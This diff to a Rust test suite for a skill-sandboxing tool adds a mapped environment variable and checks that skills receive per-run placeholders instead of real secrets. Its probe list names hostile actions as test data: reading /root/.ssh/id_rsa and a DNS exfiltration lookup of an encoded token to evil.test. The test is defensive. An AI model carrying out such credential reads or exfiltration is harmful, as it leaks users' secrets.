@@ -276,6 +276,8 @@ except Exception as e:
         "read /root/.ssh/id_rsa".to_string(),
         "var AGENT_TOKEN".to_string(),
         "var WEATHER_KEY".to_string(),
+        // `requires.env` name the operator mapped to the vault secret.
+        "var API_KEY".to_string(),
         "resolve c2VjcmV0LXRva2Vu.evil.test".to_string(),
         format!("get http://api.weather.test:{port}/Oslo"),
     ];
@@ -322,14 +324,21 @@ except Exception as e:
             (
                 "SKILL.md",
                 &format!(
-                    "---\nname: probe\ndescription: Looks things up.\nmetadata:\n  cordon:\n    egress: [\"api.weather.test:{port}\"]\n    secrets: [WEATHER_KEY]\n    bins: [python3]\n    workspace: none\n---\nRun python3 {{baseDir}}/probe.py get URL.\n"
+                    "---\nname: probe\ndescription: Looks things up.\nmetadata:\n  openclaw:\n    requires:\n      env: [API_KEY]\n  cordon:\n    egress: [\"api.weather.test:{port}\"]\n    secrets: [WEATHER_KEY]\n    bins: [python3]\n    workspace: none\n---\nRun python3 {{baseDir}}/probe.py get URL.\n"
                 ),
             ),
             ("probe.py", probe),
         ],
     );
     let out = inst
-        .cordon(&["skills", "add", src.to_str().unwrap(), "--yes"])
+        .cordon(&[
+            "skills",
+            "add",
+            src.to_str().unwrap(),
+            "--yes",
+            "--env",
+            "API_KEY=WEATHER_KEY",
+        ])
         .await;
     assert_ok(&out);
     let out = inst.cordon(&["run", "probe", "things"]).await;
@@ -362,6 +371,15 @@ except Exception as e:
         !weather.contains("WEATHER_KEY=None"),
         "the skill's own secret is given: {weather}"
     );
+    let mapped = result_of("API_KEY=");
+    assert!(
+        !mapped.contains("API_KEY=None"),
+        "the mapped variable is given: {mapped}"
+    );
+    // A placeholder (made for each run), never the value.
+    for r in [&mapped, &weather] {
+        assert!(r.contains("=cordon_ph_"), "{r}");
+    }
     assert!(!all.contains("weather-secret-value-456") && !all.contains("agent-secret-value-123"));
     // No resolver inside.
     let resolved = seen
